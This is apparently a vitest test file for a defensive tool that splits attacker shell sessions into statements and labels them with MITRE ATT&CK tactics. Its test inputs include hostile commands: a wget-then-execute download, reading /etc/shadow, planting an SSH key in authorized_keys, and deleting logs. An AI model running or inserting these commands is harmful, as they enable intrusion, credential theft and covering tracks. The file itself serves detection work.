import { existsSync, readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { LABELLED_SESSIONS } from '../../../testing/real-data.js'
import { evaluateTactics } from '../../training/evaluate-tactics.js'
import { readLabelled } from '../../training/labelled.js'
import { trainTactics } from '../../training/train-tactics.js'
import { TACTIC_MODEL } from '../models/model-file.js'
import { readCommands } from './command-reader.js'
import { statementsOf } from './statements.js'
import { TacticModelFile } from './tactic-model.js'

const read = async (...commands: string[]) => {
  const { statements } = await readCommands(
    commands.map((command, n) => ({ event_id: String(n), command })),
    null,
  )
  return statements
}

describe('statements', () => {
  test.each([
    [
      'cd /tmp && wget http://192.0.2.1/x; chmod 777 x || ./x &',
      ['cd /tmp', 'wget http://192.0.2.1/x', 'chmod 777 x', './x'],
    ],
    ["echo 'a; b | c' | sh", ['echo a; b | c', 'sh', 'a', 'b', 'c']],
    ['echo $HOME > /tmp/x', ['echo $HOME > /tmp/x']],
    ['ls *.sh', ['ls *.sh']],
    ['', []],
    [' ;; ', []],
  ])('%s', (command, statements) => {
    expect(statementsOf(command).map(({ text }) => text)).toEqual(statements)
  })

  test('whatever is typed is read, and quickly', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (command) => void statementsOf(command)),
    )
    expect(statementsOf(`${'a;'.repeat(100_000)}`).length).toBeLessThanOrEqual(100)
  })
})

test('without a model rules say what a statement is for', async () => {
  expect(
    (
      await read(
        'uname -a; cat /etc/shadow',
        'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys',
        'rm -rf /var/log/x',
      )
    ).map(({ event_id, tactic, techniques }) => [event_id, tactic, techniques[0]]),
  ).toEqual([
    ['0', 'Discovery', 'T1082'],
    ['0', 'Discovery', 'T1003.008'],
    ['1', 'Persistence', 'T1098.004'],
    ['2', 'Defense Evasion', 'T1070.002'],
  ])
})

test('a long session is read in turns up to 500 statements and 256 Ki characters, and what was read is stated', async () => {
  const short = Array.from({ length: 2_000 }, (_, n) => ({ event_id: String(n), command: 'uname -a; id; w' }))
  const many = await readCommands(short, null)
  expect([many.statements.length, many.read]).toEqual([500, 167])

  const model = TacticModelFile.parse(JSON.parse(readFileSync(TACTIC_MODEL, 'utf8')))
  const long = Array.from({ length: 2_000 }, (_, n) => ({
    event_id: String(n),
    command: 'wget http://192.0.2.1/x; '.repeat(655),
  }))
  let turns = 0
  const few = await readCommands(long, model, async () => {
    turns += 1
  })
  expect(few.read).toBeLessThan(10)
  expect(few.statements.length).toBe(500)
  // 500 statements of 64 + 24 characters, read and guessed: no turn has more than 16,384 characters of work.
  expect(turns).toBeGreaterThanOrEqual(Math.floor((500 * (64 + 24) + 500 * (64 + 3 * 24)) / 16_384) - 1)
  const large = Array.from({ length: 100 }, (_, n) => ({ event_id: String(n), command: 'x'.repeat(16_384) }))
  expect((await readCommands(large, null)).read).toBe(16)
})

describe('training', () => {
  const small = readLabelled(
    Array.from({ length: 12 }, (_, n) =>
      JSON.stringify({
        commands: `uname -a ; wget http://192.0.2.${n}/x ; crontab -l ;`,
        labels: 'Discovery - 0 -- Execution - 1 -- Persistence - 3',
      }),
    ).join('\n'),
  )

  test('the same sessions give the same file, and it tells what it was taught', async () => {
    const model = trainTactics(small)
    expect(JSON.stringify(trainTactics(small))).toBe(JSON.stringify(model))
    const { statements } = await readCommands([{ event_id: 'e', command: 'uname -r' }], model)
    const [statement] = statements
    expect(statement).toMatchObject({ tactic: 'Discovery' })
    expect(statement?.probability).toBeGreaterThan(0.5)
  })

  test('a line that is not labelled as described is named', () => {
    expect(() => readLabelled('{"commands":"ls","labels":"Wizardry - 0"}')).toThrow(
      'line 1 has the unknown tactic Wizardry',
    )
    expect(() => readLabelled('{"commands":"ls"}')).toThrow('line 1 has no commands and labels')
  })
})

test('the committed model is one, and has no word that looks like a key, a hash or an address', () => {
  const model = TacticModelFile.parse(JSON.parse(readFileSync(TACTIC_MODEL, 'utf8')))
  for (const feature of Object.keys(model.weights)) {
    expect(feature).not.toMatch(/\d{1,3}\.\d{1,3}\.\d{1,3}\.|[0-9a-f]{20}/)
    expect(feature.length).toBeLessThan(40)
  }
})

describe.skipIf(!existsSync(LABELLED_SESSIONS))('on the labelled corpus', () => {
  const sessions = existsSync(LABELLED_SESSIONS) ? readLabelled(readFileSync(LABELLED_SESSIONS, 'utf8')) : []

  test('training reproduces the committed model bit for bit', () => {
    expect(`${JSON.stringify(trainTactics(sessions))}\n`).toBe(readFileSync(TACTIC_MODEL, 'utf8'))
  })

  test('the model is better than keywords, and those than the most frequent tactic', () => {
    const [model, keywords, majority] = evaluateTactics(sessions)
    expect(model?.accuracy).toBeGreaterThan(keywords?.accuracy ?? 1)
    expect(keywords?.macro_f1).toBeGreaterThan(majority?.macro_f1 ?? 1)
    expect(model?.accuracy).toBeGreaterThan(0.85)
  }, 60_000)
})
